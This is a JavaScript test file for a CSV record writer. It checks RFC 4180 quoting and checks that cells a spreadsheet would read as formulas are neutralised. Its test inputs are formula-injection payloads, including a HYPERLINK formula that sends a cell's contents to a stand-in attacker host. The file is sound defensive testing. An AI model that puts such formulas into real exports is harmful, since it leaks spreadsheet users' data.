import { describe, expect, it } from '@jest/globals';
import { csvRecord } from './csv.js';

describe('csvRecord', () => {
  it('is a line of RFC 4180', () => {
    expect(csvRecord(['a', 1, null, 'b,c', 'say "x"', 'two\nlines'])).toBe(
      'a,1,,"b,c","say ""x""","two\nlines"\r\n',
    );
  });

  it.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\ufeff=1',
    '＝1',
    '-1e3',
    '--5',
  ])('makes text of %j, which a spreadsheet would take for a formula', (text) => {
    const field = csvRecord([text]).slice(0, -2).replace(/^"/, '');
    expect(field.startsWith("'")).toBe(true);
  });

  it('leaves amounts as they are, also those below zero', () => {
    expect(csvRecord(['-115792089237316195423570985008687907853269984665640564039457', '-0.01', '7'])).toBe(
      '-115792089237316195423570985008687907853269984665640564039457,-0.01,7\r\n',
    );
  });
});
